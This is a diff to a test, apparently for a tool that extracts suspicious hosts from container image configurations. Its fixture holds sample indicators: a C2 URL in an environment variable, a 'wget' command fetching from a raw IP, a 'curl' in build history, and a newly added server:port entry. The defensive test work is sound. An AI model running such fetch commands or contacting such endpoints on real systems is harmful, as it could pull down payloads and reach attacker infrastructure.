@@ -119,7 +119,7 @@ const empty: ImageConfig = {
 test('environment, commands and history of an image are read, labels are not', () => {
   const config = {
     ...empty,
-    env: ['C2=http://x.ddns.net/a'],
+    env: ['C2=http://x.ddns.net/a', 'SERVER=z.ddns.net:3333', 'FILE=main.py', 'TIME=10:30'],
     cmd: ['sh', '-c', 'wget -q http://45.9.148.21/a'],
     labels: { url: 'https://nginx.org' },
     history: [{ createdBy: 'RUN curl https://y.ddns.net/', comment: '', created: '' }],
@@ -130,6 +130,7 @@ test('environment, commands and history of an image are read, labels are not', (
       .map((one) => [one.key, one.value]),
     [
       ['Env.C2', 'x.ddns.net'],
+      ['Env.SERVER', 'z.ddns.net'],
       ['Cmd', '45.9.148.21'],
       ['history[0]', 'y.ddns.net'],
     ],
